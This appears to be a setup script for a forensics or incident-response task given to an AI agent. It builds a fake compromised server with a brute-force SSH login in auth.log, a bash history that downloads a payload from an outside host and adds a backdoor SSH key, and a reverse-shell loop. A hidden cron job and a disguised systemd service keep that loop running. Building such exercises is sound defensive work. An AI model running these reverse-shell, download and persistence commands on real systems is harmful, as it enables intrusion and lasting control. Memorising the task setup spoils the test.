"""Plants the intrusion into host/ (setup only: this folder is deleted before the agent starts).

The legitimate files are dated weeks back; the attacker's are dated the night of the intrusion.
"""

import os
from datetime import UTC, datetime
from pathlib import Path

HOST = Path("host")
BEFORE = datetime(2026, 10, 2, 9, 0, tzinfo=UTC).timestamp()
NIGHT = datetime(2026, 11, 30, 2, 13, tzinfo=UTC).timestamp()


def write(path: str, text: str, mode: int = 0o644, append: bool = False) -> None:
    p = HOST / path
    p.parent.mkdir(parents=True, exist_ok=True)
    with p.open("a" if append else "w") as fh:
        fh.write(text)
    p.chmod(mode)
    os.utime(p, (NIGHT, NIGHT))


# the host's own dot-files (a wheel's package data leaves dot-files out, so setup writes them)
for path, text in {
    "home/deploy/.ssh/authorized_keys":
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAICvYBsl/DgCvGh/DMo+nY6kmlyPI24+sT5OvcdsYbW6Q "
        "alice@laptop-7\n"
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBsViDn4qjOeibtQsWA+kOxo4P1VZf4Qp8sycp/d9wcK "
        "ci@deploy-runner\n",
    "home/deploy/.bash_history": "cd /srv/shop && ./deploy.sh 1.4.2\nsudo systemctl status shop-web\n",
    "home/alice/.bash_history":
        "ls -la /srv/shop\ngit -C /srv/shop log -n 3\nsudo systemctl restart shop-web\n",
}.items():
    (HOST / path).parent.mkdir(parents=True, exist_ok=True)
    (HOST / path).write_text(text)
    (HOST / path).chmod(0o600)
for p in sorted(HOST.rglob("*"), reverse=True):
    os.utime(p, (BEFORE, BEFORE), follow_symlinks=False)
wants = HOST / "etc/systemd/system/multi-user.target.wants"
wants.mkdir(parents=True, exist_ok=True)
(wants / "shop-web.service").symlink_to("../shop-web.service")
os.utime(wants / "shop-web.service", (BEFORE, BEFORE), follow_symlinks=False)
os.utime(wants, (BEFORE, BEFORE))

write("var/log/auth.log", "".join(
    f"Nov 30 02:0{i // 6}:{i * 7 % 60:02d} web-3 sshd[3{i:04d}]: Failed password for deploy from 203.0.113.77 "
    f"port {40100 + i} ssh2\n" for i in range(18)) +
    "Nov 30 02:04:51 web-3 sshd[30019]: Accepted password for deploy from 203.0.113.77 port 40119 ssh2\n"
    "Nov 30 02:04:51 web-3 sshd[30019]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)\n"
    "Nov 30 02:06:02 web-3 sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash\n"
    "Nov 30 02:13:37 web-3 sshd[30019]: pam_unix(sshd:session): session closed for user deploy\n",
    append=True)
write("home/deploy/.bash_history",
      "curl -fsSo /var/tmp/.cache/kworkerd http://198.51.100.23:8080/k\n"
      "chmod +x /var/tmp/.cache/kworkerd\n"
      "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOZLo4pLlYxyvA1CEVC6RkY2QiSF7XL6twhsdpHOQAjM "
      "backup@build-7' >> ~/.ssh/authorized_keys\n"
      "history -c\n", mode=0o600, append=True)
write("home/deploy/.ssh/authorized_keys",
      "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOZLo4pLlYxyvA1CEVC6RkY2QiSF7XL6twhsdpHOQAjM "
      "backup@build-7\n", mode=0o600, append=True)
write("var/tmp/.cache/kworkerd",
      "#!/bin/bash\n"
      "# reverse shell to the operator, every 5 minutes\n"
      "while :; do\n"
      "  bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n"
      "  sleep 300\n"
      "done\n", mode=0o755)
write("etc/cron.d/.sysupdate",
      "*/10 * * * * root /var/tmp/.cache/kworkerd >/dev/null 2>&1\n")
write("etc/systemd/system/dbus-helper.service",
      "[Unit]\nDescription=D-Bus helper daemon\n\n[Service]\n"
      "ExecStart=/var/tmp/.cache/kworkerd\nRestart=always\n\n"
      "[Install]\nWantedBy=multi-user.target\n")
(wants / "dbus-helper.service").symlink_to("../dbus-helper.service")
os.utime(wants / "dbus-helper.service", (NIGHT, NIGHT), follow_symlinks=False)
for d in (HOST / "var/tmp/.cache", HOST / "var/tmp", wants, HOST / "etc/cron.d"):
    os.utime(d, (NIGHT, NIGHT))
for d in (HOST, HOST / "etc", HOST / "etc/systemd", HOST / "etc/systemd/system", HOST / "var"):
    os.utime(d, (BEFORE, BEFORE))
